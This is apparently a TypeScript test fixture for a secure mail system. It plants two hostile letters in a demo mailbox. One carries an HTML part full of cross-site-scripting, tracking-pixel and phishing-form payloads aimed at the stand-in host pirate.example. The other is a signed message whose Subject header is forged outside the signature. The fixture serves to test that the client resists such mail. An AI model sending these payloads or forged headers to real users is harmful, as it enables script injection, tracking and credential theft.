/**
 * Letters that no operator of ours would take, deposited into its stores before it starts, as a careless gateway might:
 * sealed in due form, so that it is for the workstation to see through them.
 */
import { createHash, randomUUID } from 'node:crypto';
import { v7 as uuidv7 } from 'uuid';
import { EnvelopeId } from '../../contract/model/ids.ts';
import { EmailAddress } from '../../contract/model/person.ts';
import { collect, streamOf } from '../../envelope/bytes.ts';
import { buildMessage } from '../../envelope/mime/build.ts';
import { createMessageParser } from '../../envelope/mime/parse.ts';
import { systemClock } from '../../operator/clock.ts';
import { configOfPkiFolder, OperatorConfig } from '../../operator/config.ts';
import { readDemoCards } from '../../operator/demo/cards.ts';
import { DEMO_DOMAIN, demoAccounts, demoAddress } from '../../operator/demo/people.ts';
import { seedDemo } from '../../operator/demo/seed.ts';
import { createLogger } from '../../operator/logger.ts';
import { createDeposits } from '../../operator/services/deposit.ts';
import { createMailboxAccess } from '../../operator/services/mailbox-access.ts';
import type { Session } from '../../operator/services/ports/sessions.ts';
import { publishEnvelope } from '../../operator/services/publish.ts';
import { createSealing } from '../../operator/services/sealing.ts';
import { onOwnMailbox } from '../../operator/services/sessions.ts';
import { createSignals } from '../../operator/services/signals.ts';
import { readSigner } from '../../operator/signing-key.ts';
import { openStores } from '../../operator/store/open-stores.ts';
import { readTrust } from '../../operator/trust-files.ts';

/** What the hostile letters ask for on the network, if anybody lets them. */
export const HOSTILE_HOST = 'pirate.example';
/** Titles under which they stand in the list. */
export const hostileTitles = { html: 'Mise en forme piégée', headers: 'Compte rendu authentique' } as const;
/** The title that the letter with two headers shows to whoever believes the outer one. */
export const FALSE_TITLE = 'Resultat falsifie';

const MESSAGE_LIMIT = 1_048_576;
const FROM = 'paul.leroy';
const TO = 'claire.martin';

interface Letter {
  readonly id: EnvelopeId;
  readonly bytes: Uint8Array;
  readonly signed: boolean;
}

/** Everything that received HTML tries. Whatever runs sets `window.hacked` or `window.top.hacked`. */
const hostileHtml = [
  '<html><head>',
  `<meta http-equiv="refresh" content="0; url=https://${HOSTILE_HOST}/refresh">`,
  `<link rel="stylesheet" href="https://${HOSTILE_HOST}/style.css">`,
  `<base href="https://${HOSTILE_HOST}/">`,
  `<style>body { background: url(https://${HOSTILE_HOST}/background.png) }</style>`,
  '<script>window.hacked = window.top.hacked = true</script>',
  '</head>',
  '<body onload="window.hacked = window.top.hacked = true">',
  '<p>Cher confrère, voici le <b>bilan</b>.</p>',
  `<img src="https://${HOSTILE_HOST}/pixel.png" onerror="window.top.hacked = true">`,
  '<img src="x" onerror="window.top.hacked = true">',
  `<p style="background: url(https://${HOSTILE_HOST}/p.png)">Mis en forme</p>`,
  '<svg onload="window.top.hacked = true"><script>window.top.hacked = true</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.top.hacked = true"></style></mglyph></table></mtext></math>',
  `<iframe src="https://${HOSTILE_HOST}/frame"></iframe>`,
  `<iframe srcdoc="<script>window.top.hacked = true</script>"></iframe>`,
  `<object data="https://${HOSTILE_HOST}/object"></object><embed src="https://${HOSTILE_HOST}/embed">`,
  `<form action="https://${HOSTILE_HOST}/form"><input name="pin" type="password"><button>Code porteur</button></form>`,
  '<a href="javascript:window.top.hacked = true">javascript</a>',
  `<a href="https://${HOSTILE_HOST}/lien" target="_top">résultats</a>`,
  `<video src="https://${HOSTILE_HOST}/video" autoplay></video>`,
  '</body></html>',
].join('\r\n');

/** `multipart/alternative`, unsigned: what a mail program of another operator would send. */
function htmlLetter(): Letter {
  const id = EnvelopeId.parse(uuidv7());
  const part = (type: string, content: string) => [
    '--limite',
    `Content-Type: ${type}; charset=utf-8`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(content).toString('base64').replace(/.{76}/g, '$&\r\n'),
  ];
  const lines = [
    `From: <${demoAddress(FROM)}>`,
    `To: <${demoAddress(TO)}>`,
    `Subject: =?utf-8?B?${Buffer.from(hostileTitles.html).toString('base64')}?=`,
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${id}@${DEMO_DOMAIN}>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary=limite',
    '',
    ...part('text/plain', 'Cher confrère, voici le bilan, sans mise en forme.'),
    ...part('text/html', hostileHtml),
    '--limite--',
    '',
  ];
  return { id, bytes: Buffer.from(lines.join('\r\n')), signed: false };
}

/** Signed by its author, with another title outside the signature. */
async function twoFacedLetter(cards: ReturnType<typeof readDemoCards>): Promise<Letter> {
  const id = EnvelopeId.parse(uuidv7());
  const signer = cards.get('paul-leroy')?.signer;
  if (!signer) throw new Error('the demonstration has no card of Paul');
  const message = buildMessage({
    headers: {
      from: { name: '', address: demoAddress(FROM) },
      to: [{ name: '', address: demoAddress(TO) }],
      cc: [],
      subject: hostileTitles.headers,
      date: new Date(),
      messageId: `${id}@${DEMO_DOMAIN}`,
    },
    text: 'Cher confrère, l’INR est dans la cible.',
    attachments: [],
    signer,
  });
  const text = Buffer.from(await collect(message, MESSAGE_LIMIT)).toString('latin1');
  // Only the first occurrence is outside the signature.
  return {
    id,
    bytes: Buffer.from(text.replace(/^Subject: .*$/m, `Subject: ${FALSE_TITLE}`), 'latin1'),
    signed: true,
  };
}

/** Seeds the demonstration, then adds the letters, sealed now, from Paul to Claire. The operator must not run. */
export async function depositHostileLetters(operatorFolder: string, pkiFolder: string): Promise<void> {
  const config = OperatorConfig.parse({ ...configOfPkiFolder(pkiFolder), dataFolder: operatorFolder });
  const cards = readDemoCards(pkiFolder);
  const log = createLogger('silent');
  const stores = await openStores(config);
  try {
    await seedDemo({ config, stores, log, clock: systemClock, cards });
    const trust = readTrust(config.trust, config.trust.graceMs, systemClock, log);
    const parts = {
      ...stores,
      trust,
      sealing: createSealing({
        sealSigner: readSigner(config.seal),
        timestampSigner: readSigner(config.timestamp),
        timestampPolicy: config.timestamp.policy,
        trust,
        clock: systemClock,
      }),
      signals: createSignals(),
      clock: systemClock,
      operatorName: config.name,
      onPublished: () => undefined,
      mailboxes: createMailboxAccess({ ...stores, clock: systemClock }),
      scanning: null,
      mayInvite: false,
      mayAskCodes: false,
    };
    const account = demoAccounts(cards).find(({ card }) => card.address === demoAddress(FROM));
    if (!account) throw new Error('the demonstration has no Paul');
    const session: Session = {
      id: randomUUID(),
      accountId: account.card.accountId,
      jkt: '',
      publicKey: {},
      method: 'card',
      evidenceSha256: null,
      createdAt: systemClock(),
      expiresAt: new Date(Date.now() + 60_000),
      ended: false,
      usedAt: null,
    };
    const caller = onOwnMailbox(session, account);
    const deposits = createDeposits(parts);
    for (const letter of [htmlLetter(), await twoFacedLetter(cards)]) {
      const { id, bytes, signed } = letter;
      await deposits.announce(caller, {
        envelopeId: id,
        sha256: createHash('sha256').update(bytes).digest('hex'),
        sizeBytes: bytes.length,
        recipients: [{ address: EmailAddress.parse(demoAddress(TO)), name: '', role: 'to' }],
        signed,
        inReplyTo: null,
      });
      await deposits.append(caller, id, 0, streamOf(bytes));
      const upload = await stores.uploads.find(account.card.accountId, id);
      const key = upload && (await stores.vault.find(upload.contentId));
      if (!upload || !key) throw new Error('the letter was not taken');
      const parser = createMessageParser();
      parser.write(bytes);
      // The operator's own look at the two headers is what is left out.
      const message = { ...(await parser.end()), headersDiffer: [] };
      await publishEnvelope(parts, {
        ...{ depositor: caller, accountId: upload.accountId, manifest: upload.manifest, message, statement: null },
        still: async () => caller,
        read: () => streamOf(bytes),
        keep: async () => ({ contentId: upload.contentId, key, segments: null }),
      });
    }
  } finally {
    await stores.close();
  }
}
